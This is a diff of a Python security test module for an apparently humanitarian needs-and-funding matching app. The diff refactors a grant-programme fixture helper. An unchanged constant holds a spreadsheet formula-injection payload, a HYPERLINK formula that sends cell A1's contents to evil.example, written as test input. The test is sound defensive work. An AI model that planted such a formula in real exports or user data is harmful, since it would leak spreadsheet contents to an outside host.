@@ -28,10 +28,9 @@ from pux.matching import service as matching
 from pux.matching.allocation import RoundRules
 from pux.needs import service as needs
 from pux.needs.models import Need
-from pux.programmes import service as programmes
 from pux.programmes.models import Programme
 from tests.web_helpers import bearer, csrf_token, sign_in
-from tests.world import PASSWORD, World, programme_data
+from tests.world import PASSWORD, World, published_grant_programme
 
 HUGE_ID = "1180591620717411303424"  # 2**70: no database integer holds it
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
@@ -46,26 +45,13 @@ def _need_count(session: Session) -> int:
 
 def _funding_programme(session: Session, world: World) -> int:
     """A published grant programme that fits every Kenyan health need of the world (any status)."""
-    for key in ("published_ken", "partners_ken", "private_ken", "draft_ken", "submitted_ken"):
-        need = needs.get_need(session, actor=world.actors["admin"], need_id=world.needs[key])
-        need.modalities_wanted = ["equipment", "funding"]
-    session.flush()
-    partner = world.actors["partner_a"]
-    created = programmes.create_programme(
+    return published_grant_programme(
         session,
-        actor=partner,
-        data=programme_data(
-            world.organisations["donor_a"],
-            title="Cancer care grants (security review)",
-            total_budget=Decimal("9000000"),
-            remaining_budget=Decimal("9000000"),
-            max_per_need=Decimal("2000000"),
-        ),
+        world,
+        title="Cancer care grants (security review)",
+        budget=Decimal("9000000"),
+        need_keys=("published_ken", "partners_ken", "private_ken", "draft_ken", "submitted_ken"),
     )
-    programmes.set_programme_status(
-        session, actor=partner, programme_id=created.id, target="published", version=created.version
-    )
-    return created.id
 
 
 def _round(session: Session, world: World) -> tuple[int, int]:
